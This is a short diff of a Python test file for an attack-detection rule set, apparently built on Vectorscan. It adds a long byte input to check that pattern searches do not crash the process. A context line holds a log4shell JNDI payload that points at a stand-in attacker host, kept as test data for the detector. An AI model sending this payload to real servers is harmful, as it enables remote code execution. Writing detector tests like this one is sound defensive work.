@@ -29,6 +29,8 @@ ATTACKS = {
     "log4shell": "${jndi:ldap://evil.example/a}",
 }
 
+LONG = bytes(range(1, 256)) * 4
+
 ORDINARY = [
     "hello, how are you?",
     "Let's drop the old table & select a new union rep; where do we sleep?",
@@ -71,7 +73,9 @@ def test_every_pattern_tells_where_its_match_begins(shipped):
     for rule in shipped.rules:
         if not isinstance(rule, Correlation):
             for test in matches_of(rule.condition):
-                assert Pattern(test.regex, test.flags).knows_start, (rule.name, test.regex)
+                pattern = Pattern(test.regex, test.flags)
+                assert pattern.knows_start, (rule.name, test.regex)
+                pattern.search(LONG)  # and does not end the process, whatever Vectorscan does
 
 
 def test_every_category_has_rules(shipped):
